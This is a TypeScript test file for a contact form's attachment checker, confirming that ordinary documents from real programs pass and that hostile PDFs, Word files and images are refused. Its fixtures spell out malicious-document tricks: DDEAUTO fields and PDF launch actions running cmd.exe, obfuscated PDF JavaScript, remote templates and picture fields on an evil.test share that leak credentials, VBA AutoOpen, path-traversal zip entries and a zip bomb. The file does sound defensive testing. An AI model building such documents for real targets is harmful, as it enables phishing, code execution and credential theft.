import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { formMessage, type Language } from '@verdalia/shared';
import { SmtpSink } from '@verdalia/smtp-sink';
import { build, contactForm, listen, postContact, tempDir } from './helper.js';
import { eicar, startClamd } from './support/clamd.js';
import { freePort } from './support/free-port.js';
import * as hostile from '../../../packages/attachment-check/test/support/hostile-files.js';
import { makeRealDocuments } from './support/real-documents.js';
import { TestSiteverify } from './support/siteverify.js';
import { fieldParagraph } from './support/word-fields.js';

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

// Made once for the file by the real programs (a few seconds), then varied by the cases.
const real = await makeRealDocuments(await tempDir('real-documents'));

const settingsRels = 'word/_rels/settings.xml.rels';
const documentRels = 'word/_rels/document.xml.rels';

/** What pandoc's document relationships hold, plus the given relationship. */
async function documentRelsWith(extra: string): Promise<hostile.ZipEntry> {
  const current = (await hostile.readZip(real.docx)).find((entry) => entry.name === documentRels);
  const text = current?.data?.toString('utf8') ?? '';
  if (!text.includes('</Relationships>')) throw new Error('pandoc wrote no document relationships');
  return {
    name: documentRels,
    data: Buffer.from(text.replace('</Relationships>', `${extra}</Relationships>`)),
  };
}

/** A file a visitor might send, the answer it must get, and whether the staff get it by mail. */
interface Case {
  label: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
}

const file = (label: string, name: string, bytes: Case['bytes']): Case => ({ label, name, bytes });
/** pandoc's DOCX with these parts added or replaced. */
const docxWith = (parts: () => hostile.ZipEntry[] | Promise<hostile.ZipEntry[]>) => async () =>
  hostile.docxWith(real.docx, await parts());
/** pandoc's part `name` with `xml` inserted before `tag` (its section properties, its closing tag). */
async function partWith(name: string, tag: string, xml: string): Promise<hostile.ZipEntry> {
  const current = (await hostile.readZip(real.docx)).find((entry) => entry.name === name);
  const text = current?.data?.toString('utf8') ?? '';
  if (!text.includes(tag)) throw new Error(`pandoc wrote no ${tag} in ${name}`);
  return { name, data: Buffer.from(text.replace(tag, `${xml}${tag}`)) };
}
/** The settings part naming the document's template, as Word writes it. */
const templateAt = (target: string): hostile.ZipEntry[] => [
  {
    name: settingsRels,
    data: hostile.rels(hostile.relationship('rId1', 'attachedTemplate', target, true)),
  },
];
/** Chromium's PDF, updated with these objects and an addition to its catalog. */
const pdfWith = (objects: Record<number, string>, catalog: string) => () =>
  hostile.pdfUpdate(real.pdf, objects, catalog);
/** Chromium's PDF, updated with `body` and an index entry for object 90 where `mark` is in it. */
const pdfAt = (body: string, mark: string) => () =>
  hostile.pdfUpdateAt(real.pdf, body, { 90: body.indexOf(mark) }, '/OpenAction 90 0 R');
/** A real file with something after it. */
const followed =
  (first: () => Buffer, ...rest: (() => Buffer)[]) =>
  () =>
    Buffer.concat([first(), ...rest.map((make) => make())]);
const screenshot = () => real.screenshot;
const photo = () => real.photo;

const accepted: Case[] = [
  file('a PDF printed by Chromium, with a web link', 'propuesta.pdf', () => real.pdf),
  file(
    'a PDF exported by LibreOffice (stream lengths in objects of their own)',
    'propuesta.pdf',
    () => real.libreofficePdf,
  ),
  file(
    'a DOCX written by pandoc, with a web link and a table of contents (a TOC field)',
    'propuesta.docx',
    () => real.docx,
  ),
  file('a Word 97 DOC written by LibreOffice', 'propuesta.doc', () => real.doc),
  file('a screenshot PNG taken by Chromium', 'captura.png', screenshot),
  file('a phone photo: JPEG with EXIF, GPS and a thumbnail', 'IMG_0412.jpg', photo),
  file(
    'a phone photo followed by a second image (MPF gain map)',
    'PXL_0412.jpg',
    followed(photo, () => real.plainJpeg),
  ),
  file(
    'a motion photo: the JPEG followed by its MP4 (Google layout)',
    'PXL_0413.MP.jpg',
    followed(photo, hostile.mp4),
  ),
  file(
    'a Samsung motion photo (SEF trailer holding the MP4)',
    '20261120_094107.jpg',
    followed(photo, () => hostile.samsungTrailer(hostile.mp4())),
  ),
  file(
    'a DOCX made from a template on the author’s own disk',
    'informe.docx',
    docxWith(() =>
      templateAt('file:///C:/Users/ana/AppData/Roaming/Microsoft/Templates/Informe.dotx'),
    ),
  ),
];

/** Text of the page the real documents are made from, where a .doc field is written over it. */
const wordAnchor = 'Bonos verdes y finanzas climáticas para cooperativas de la región';

const javascriptAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
const refused: Case[] = [
  // Bypasses of a check that reads less than a reader does, each built from a real file.
  file(
    'a PDF with an executable in a page’s file attachment annotation (no name tree, no /Type)',
    'factura.pdf',
    () => hostile.pdfWithAnnotationAttachment(real.pdf, hostile.executable()),
  ),
  file(
    'a PDF whose open action opens a file on a network share (GoToR to \\\\host\\share)',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\informe.pdf) /D [0 /Fit] /NewWindow true >>',
      },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action submits a form',
    'factura.pdf',
    pdfWith(
      { 90: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> /Flags 4 >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action imports data',
    'factura.pdf',
    pdfWith({ 90: '<< /S /ImportData /F (datos.fdf) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose open action fetches an address (/URI run on opening)',
    'factura.pdf',
    pdfWith({ 90: '<< /S /URI /URI (https://evil.test/pixel.png) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with an associated file (/AF)',
    'factura.pdf',
    pdfWith({ 90: '<< /Type /Filespec /F (datos.xml) /AFRelationship /Data >>' }, '/AF [90 0 R]'),
  ),
  file(
    'a web page with a script between %PDF-1.4 and %%EOF, named .pdf',
    'factura.pdf',
    hostile.htmlAsPdf,
  ),
  file(
    'a DOCX whose relationships are UTF-16 without a byte order mark, linking a remote picture',
    'factura.docx',
    docxWith(async () => {
      const entry = await documentRelsWith(
        hostile.relationship('rId93', 'image', 'https://evil.test/logo.png', true),
      );
      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
    }),
  ),
  file(
    'a DOCX whose document is UTF-16 without a byte order mark, with an INCLUDEPICTURE field',
    'factura.docx',
    docxWith(async () => {
      const entry = await partWith(
        'word/document.xml',
        '<w:sectPr',
        fieldParagraph(String.raw`INCLUDEPICTURE "https://evil.test/logo.png" \d `),
      );
      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
    }),
  ),
  file('a DOC with a DDEAUTO field that runs cmd.exe', 'factura.doc', () =>
    hostile.docWithField(
      real.doc,
      wordAnchor,
      String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`,
    ),
  ),
  file('a DOC with an INCLUDETEXT field fetching a web page', 'factura.doc', () =>
    hostile.docWithField(real.doc, wordAnchor, 'INCLUDETEXT "http://evil.test/t.docx"'),
  ),
  file('a DOC with a VBA macro project (Macros storage, AutoOpen)', 'factura.doc', () =>
    hostile.docWith(real.doc, {
      '/Macros/VBA/ThisDocument': Buffer.from(
        'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n',
      ),
      '/Macros/VBA/dir': Buffer.alloc(512, 1),
      '/Macros/PROJECT': Buffer.from(
        'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
      ),
    }),
  ),
  file('a DOC with an embedded OLE object (ObjectPool)', 'factura.doc', () =>
    hostile.docWith(real.doc, {
      '/ObjectPool/_1234567890/\u0001Ole10Native': Buffer.concat([
        Buffer.alloc(4),
        hostile.executable(),
      ]),
      '/ObjectPool/_1234567890/\u0001CompObj': Buffer.alloc(64, 2),
    }),
  ),
  file(
    'a DOC with an executable appended',
    'factura.doc',
    followed(() => real.doc, hostile.executable),
  ),
  file(
    'a DOC with an Office package appended, an executable inside it (Word never reads it; an archiver does)',
    'factura.doc',
    followed(
      () => real.doc,
      () =>
        hostile.writeZip([
          { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
          { name: 'theme/theme/factura.exe', data: hostile.executable() },
        ]),
    ),
  ),
  file('a DOC whose directory entries form a cycle', 'factura.doc', () =>
    hostile.docWithDirectoryCycle(real.doc),
  ),
  file('an RTF saved as .doc (AbiWord’s “Word 97” export)', 'carta.doc', () => real.abiwordDoc),
  file(
    'a Word 97 DOC named .docx (a compound file, but no encrypted Word document)',
    'carta.docx',
    () => real.doc,
  ),
  file(
    'a DOCX with vbaProject.bin',
    'factura.docx',
    docxWith(() => [{ name: 'word/vbaProject.bin', data: Buffer.alloc(2048, 7) }]),
  ),
  file(
    'a DOCX with a remote attachedTemplate (the remote-template pattern)',
    'factura.docx',
    docxWith(() => templateAt('https://evil.test/plantilla.dotm')),
  ),
  file(
    'a DOCX with a remote template behind an entity-encoded TargetMode',
    'factura.docx',
    docxWith(() => [
      {
        name: settingsRels,
        data: hostile.rels(
          `<Relationship TargetMode='&#69;xternal' Target='\\\\evil.test\\share\\t.dotm' Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>`,
        ),
      },
    ]),
  ),
  file(
    'a DOCX whose remote template’s address holds a > (allowed inside a quoted value)',
    'factura.docx',
    docxWith(() => templateAt('https://evil.test/plantilla.dotm#>')),
  ),
  file(
    'a DOCX with a DDEAUTO field (its instructions split across runs) that runs a program on opening',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/document.xml',
        '<w:sectPr',
        fieldParagraph(' DDE', String.raw`AUTO c:\windows\system32\cmd.exe "/k calc.exe" `),
      ),
    ]),
  ),
  file(
    'a DOCX with an INCLUDEPICTURE field fetching from a network share (a credential leak)',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/document.xml',
        '<w:sectPr',
        fieldParagraph(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `),
      ),
    ]),
  ),
  file(
    'a DOCX with an INCLUDETEXT field fetching a web page, in its footnotes',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/footnotes.xml',
        '</w:footnotes>',
        `<w:footnote w:id="9">${fieldParagraph('INCLUDETEXT "https://evil.test/t.docx" ')}</w:footnote>`,
      ),
    ]),
  ),
  ...(
    [
      ['an external oleObject relationship', 'oleObject', 'https://evil.test/o.bin'],
      ['an external frame', 'frame', 'https://evil.test/f.html'],
    ] as const
  ).map(([what, type, target], index) =>
    file(
      `a DOCX with ${what}`,
      'factura.docx',
      docxWith(async () => [
        await documentRelsWith(hostile.relationship(`rId9${index}`, type, target, true)),
      ]),
    ),
  ),
  file(
    'a DOCX with an embedded OLE object',
    'factura.docx',
    docxWith(async () => [
      { name: 'word/embeddings/oleObject1.bin', data: hostile.executable() },
      await documentRelsWith(
        hostile.relationship('rId92', 'oleObject', 'embeddings/oleObject1.bin'),
      ),
    ]),
  ),
  file(
    'a DOCX with a ../ entry name',
    'factura.docx',
    docxWith(() => [{ name: '../../evil.bat', data: Buffer.from('calc\r\n') }]),
  ),
  file(
    'a DOCX with an absolute entry name',
    'factura.docx',
    docxWith(() => [{ name: '/etc/cron.d/evil', data: Buffer.from('x') }]),
  ),
  file(
    'a DOCX zip bomb (1 GiB of zeros in one part)',
    'factura.docx',
    docxWith(() => [hostile.gibibyteOfZeros('word/media/image9.png')]),
  ),
  file(
    'a PDF with JavaScript run on opening (/OpenAction, /JS)',
    'factura.pdf',
    pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with JavaScript under #xx-escaped names',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with JavaScript inside a compressed object stream',
    'factura.pdf',
    pdfWith({ 91: hostile.objectStream({ 90: javascriptAction }) }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose script object hides behind a stray stream keyword (a %endstream comment ends it)',
    'factura.pdf',
    pdfAt(`\nstream\n90 0 obj\n${javascriptAction}\nendobj\n%endstream\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a comment',
    'factura.pdf',
    pdfAt(`\n% 90 0 obj ${javascriptAction} endobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a string',
    'factura.pdf',
    pdfAt(`\n89 0 obj\n(90 0 obj ${javascriptAction} endobj)\nendobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose object stream hides its script behind a fake endstream (a reader goes by /Length)',
    'factura.pdf',
    pdfWith(
      { 91: hostile.objectStream({ 90: javascriptAction }, { fakeEnd: true }) },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with a launch action',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with an embedded file',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream',
        91: '<< /Type /Filespec /F (factura.exe) /EF << /F 90 0 R >> >>',
        92: '<< /EmbeddedFiles << /Names [(factura.exe) 91 0 R] >> >>',
      },
      '/Names 92 0 R',
    ),
  ),
  file(
    'a PDF carrying a ZIP whose end record is 100 KiB from the end',
    'factura.pdf',
    followed(
      () => real.pdf,
      hostile.smallZip,
      () => Buffer.from(`\n%${'x'.repeat(100_000)}\n%%EOF\n`),
    ),
  ),
  ...(
    [
      ['an executable', hostile.executable],
      ['a RAR archive', hostile.rar],
      ['a 7z archive', hostile.sevenZip],
      ['a web page', hostile.html],
    ] as const
  ).map(([what, make]) =>
    file(`a PNG with ${what} after IEND`, 'captura.png', followed(screenshot, make)),
  ),
  file('a PNG carrying a ZIP in a chunk 100 KiB from the end', 'captura.png', () =>
    hostile.pngWithChunk(
      hostile.pngWithChunk(real.screenshot, hostile.pngChunk('ziPp', hostile.smallZip())),
      hostile.pngChunk('tEXt', Buffer.from(`Comment\0${'x'.repeat(100_000)}`, 'latin1')),
    ),
  ),
  ...(
    [
      ['an executable', hostile.executable],
      ['a web page', hostile.html],
      ['a ZIP', hostile.smallZip],
    ] as const
  ).map(([what, make]) =>
    file(`a phone photo with ${what} after the image`, 'IMG_0412.jpg', followed(photo, make)),
  ),
  // Where our reading differed from the reader's: each was accepted before.
  file(
    'a DOCX whose DDEAUTO field hides behind an x:instr of an ignorable namespace',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/document.xml',
        '<w:sectPr',
        '<w:p><w:fldSimple xmlns:x="urn:example:x" w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;" x:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
      ),
    ]),
  ),
  file(
    'a DOCX whose remote template is an external relationship typed as a link',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/settings.xml',
        '</w:settings>',
        `<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>`,
      ),
      {
        name: settingsRels,
        data: hostile.rels(
          hostile.relationship('rId1', 'hyperlink', '\\\\evil.test\\share\\t.dotm', true),
        ),
      },
    ]),
  ),
  file(
    'a DOCX with a DATABASE field reading a share',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/document.xml',
        '<w:sectPr',
        fieldParagraph(
          String.raw`DATABASE \d "\\\\evil.test\\datos\\clientes.mdb" \s "SELECT * FROM t" `,
        ),
      ),
    ]),
  ),
  file(
    'a DOCX with a task-pane add-in from a file-share catalog',
    'factura.docx',
    docxWith(() => [
      {
        name: 'word/webextensions/webextension1.xml',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8"?><we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="{8C9E7C4D-6D59-4A0E-A6A8-3D5E1E2B7F10}" version="1.0.0.0" store="\\\\evil.test\\catalog" storeType="FileSystem"/></we:webextension>',
        ),
      },
    ]),
  ),
  file('a DOC with Equation Editor 2.0 labelled a Microsoft Graph chart', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      {
        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj(
          'Microsoft Graph Chart',
          'MSGraph.Chart.8',
        ),
        '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1),
      },
      { '/ObjectPool/_1234/': '0017020000000000c000000000000046' },
    ),
  ),
  file('a DOC with a Packager object of the class 0003000D labelled a picture', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      {
        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj('Bitmap Image', 'Paint.Picture'),
        '/ObjectPool/_1234/\u0001Ole10Native': Buffer.from(
          '\u0000\u0000\u0000\u0000factura.vbs\u0000CreateObject("WScript.Shell").Run "calc"',
          'latin1',
        ),
      },
      { '/ObjectPool/_1234/': '0d00030000000000c000000000000046' },
    ),
  ),
  file('a DOC with an Equation Editor storage without a CompObj stream', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      { '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1) },
      { '/ObjectPool/_1234/': '02ce020000000000c000000000000046' },
    ),
  ),
  file('a DOC whose associated template is on a network share', 'factura.doc', () =>
    hostile.docWithAssociatedTemplate(real.doc, '\\\\evil.test\\share\\x.dot'),
  ),
  file(
    'a DOCX embedding Equation Editor 2.0 labelled a Microsoft Graph chart',
    'factura.docx',
    docxWith(() => [
      {
        name: 'word/embeddings/oleObject1.bin',
        data: hostile.oleObjectFile('0017020000000000c000000000000046', {
          '\u0001CompObj': hostile.compObj('Microsoft Graph Chart', 'MSGraph.Chart.8'),
          'Equation Native': Buffer.alloc(256, 1),
        }),
      },
    ]),
  ),
  ...Object.entries(hostile.pictureMarkup).flatMap(([what, markup]) => [
    file(`a phone photo with ${what} in a JPEG comment`, 'IMG_0412.jpg', () =>
      hostile.jpegWithSegment(real.photo, 0xfe, Buffer.from(markup, 'latin1')),
    ),
    file(`a screenshot PNG with ${what} in a compressed text chunk`, 'captura.png', () =>
      hostile.pngWithChunk(real.screenshot, hostile.pngText('zTXt', 'Comment', markup)),
    ),
  ]),
  file(
    'a phone photo followed by a PDF whose open action runs JavaScript',
    'IMG_0412.jpg',
    followed(photo, pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R')),
  ),
  file(
    'a motion photo whose video hides a web page',
    'PXL_0413.MP.jpg',
    followed(photo, hostile.mp4, hostile.html),
  ),
];

describe('attachments: ordinary files from real programs pass, hostile ones never reach the staff', async () => {
  const smtp = await SmtpSink.start();
  const siteverify = await TestSiteverify.start();
  const app = await build({
    SMTP_URL: smtp.url,
    HCAPTCHA_VERIFY_URL: siteverify.url,
    HCAPTCHA_SECRET: '0xsecret-for-tests',
    MAIL_TO: 'inbox@verdalia.example',
    MAIL_FROM: 'web@verdalia.example',
    RETRY_BASE_MS: '50',
  });
  const base = await listen(app);
  afterAll(async () => {
    await smtp.stop();
    await siteverify.stop();
  });
  beforeEach(() => {
    siteverify.mode = { kind: 'success' };
  });

  const answerOf = (code: Parameters<typeof formMessage>[0], lang: Language, success = false) => ({
    success,
    message: formMessage(code, lang),
    code,
  });

  it.each(accepted)('accepts $label and mails it unchanged', async ({ name, bytes }) => {
    const file = await bytes();
    const count = smtp.received.length;
    const answer = await postContact(base, contactForm({}, { name, bytes: file }));
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual(answerOf('form.errors.success', 'es', true));
    const mail = (await smtp.waitFor(count + 1))[count]?.mail;
    expect(mail?.attachments).toHaveLength(1);
    expect(mail?.attachments[0]?.filename).toBe(name);
    expect(sha256(mail?.attachments[0]?.content ?? Buffer.alloc(0))).toBe(sha256(file));
  });

  const languages: Language[] = ['es', 'en', 'pt'];
  it.each(refused.map((entry, index) => ({ ...entry, lang: languages[index % 3] ?? 'es' })))(
    'refuses $label (415 fileType, $lang) and mails nothing',
    async ({ name, bytes, lang }) => {
      const file = await bytes();
      await app.deliveryWorker.idle();
      const count = smtp.received.length;
      const pending = (await app.outbox.status()).pending;
      const answer = await postContact(base, contactForm({ lang }, { name, bytes: file }));
      expect(answer.status).toBe(415);
      expect(answer.body).toEqual(answerOf('form.errors.fileType', lang));
      expect((await app.outbox.status()).pending).toBe(pending);
      expect(await readdir(app.outbox.tmpDir)).toEqual([]);
      await app.deliveryWorker.idle();
      expect(smtp.received.length).toBe(count);
    },
  );

  it('keeps the ordinary web link of the pandoc DOCX as an external relationship', async () => {
    // So that "links stay allowed" above is tested with one, not vacuously.
    const entries = await hostile.readZip(real.docx);
    const links = entries.find((entry) => entry.name === documentRels)?.data?.toString('utf8');
    const link = /<Relationship [^>]*verdalia\.example\/servicios[^>]*>/.exec(links ?? '')?.[0];
    expect(link).toContain('relationships/hyperlink"');
    expect(link).toContain('TargetMode="External"');
  });

  it('verifies the captcha before checking the content: a refused token is answered as such', async () => {
    siteverify.mode = { kind: 'error', codes: ['invalid-input-response'] };
    const before = siteverify.requests.length;
    const answer = await postContact(
      base,
      contactForm(
        { lang: 'en' },
        { name: 'factura.doc', bytes: hostile.docWithDirectoryCycle(real.doc) },
      ),
    );
    expect(answer.status).toBe(403);
    expect(answer.body).toEqual(answerOf('form.errors.captcha', 'en'));
    expect(siteverify.requests.length).toBe(before + 1);
  });

  it('still refuses at once, before the captcha, a file whose first bytes contradict its name', async () => {
    const before = siteverify.requests.length;
    const answer = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: hostile.executable() }),
    );
    expect(answer.status).toBe(415);
    expect(siteverify.requests.length).toBe(before);
  });
});

describe('attachments: the virus scan by a real clamd', async () => {
  const smtp = await SmtpSink.start();
  const siteverify = await TestSiteverify.start();
  const clamd = await startClamd(await tempDir('clamd'), { 'eicar.com': eicar });
  // A PDF carrying the EICAR text: it passes the content checks, so only clamd can stop it.
  const carrier = Buffer.concat([
    real.pdf,
    Buffer.from(`%${eicar.toString('latin1')}\n%%EOF\n`, 'latin1'),
  ]);
  const infected = await startClamd(await tempDir('clamd-carrier'), { 'factura.pdf': carrier });
  const env = {
    SMTP_URL: smtp.url,
    HCAPTCHA_VERIFY_URL: siteverify.url,
    HCAPTCHA_SECRET: '0xsecret-for-tests',
    RETRY_BASE_MS: '50',
    CLAMAV_TIMEOUT_MS: '1000',
  };
  afterAll(async () => {
    await clamd.stop();
    await infected.stop();
    await smtp.stop();
    await siteverify.stop();
  });

  it('mails a clean file and refuses one clamd finds (415 fileType)', async () => {
    const base = await listen(await build({ ...env, CLAMAV_URL: infected.url }));
    const count = smtp.received.length;
    const clean = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: real.pdf }),
    );
    expect(clean.status).toBe(200);
    await smtp.waitFor(count + 1);
    const found = await postContact(
      base,
      contactForm({ lang: 'pt' }, { name: 'factura.pdf', bytes: carrier }),
    );
    expect(found.status).toBe(415);
    expect(found.body.code).toBe('form.errors.fileType');
    expect(found.body.message).toBe(formMessage('form.errors.fileType', 'pt'));
  });

  it('answers 503 attachmentUnchecked when clamd does not answer in time, and never waits without a file', async () => {
    const app = await build({ ...env, CLAMAV_URL: clamd.url, CLAMAV_TIMEOUT_MS: '2000' });
    const base = await listen(app);
    clamd.pause();
    try {
      const answered: string[] = [];
      const withFile = postContact(
        base,
        contactForm({ lang: 'en' }, { name: 'propuesta.pdf', bytes: real.pdf }),
      ).then((answer) => {
        answered.push('with a file');
        return answer;
      });
      const withoutFile = await postContact(base, contactForm({ lang: 'en' }));
      answered.push('without a file');
      expect(withoutFile.status).toBe(200);
      const unchecked = await withFile;
      // The message without a file was answered while the other one still waited for clamd.
      expect(answered).toEqual(['without a file', 'with a file']);
      expect(unchecked.status).toBe(503);
      expect(unchecked.body).toEqual({
        success: false,
        message: formMessage('form.errors.attachmentUnchecked', 'en'),
        code: 'form.errors.attachmentUnchecked',
      });
      expect(await readdir(app.outbox.tmpDir)).toEqual([]);
    } finally {
      clamd.resume();
    }
  });

  it('answers 503 attachmentUnchecked when clamd is down', async () => {
    const app = await build({ ...env, CLAMAV_URL: `tcp://127.0.0.1:${await freePort()}` });
    const base = await listen(app);
    const answer = await postContact(
      base,
      contactForm({}, { name: 'propuesta.pdf', bytes: real.pdf }),
    );
    expect(answer.status).toBe(503);
    expect(answer.body.code).toBe('form.errors.attachmentUnchecked');
    expect(await readdir(app.outbox.tmpDir)).toEqual([]);
  });
});
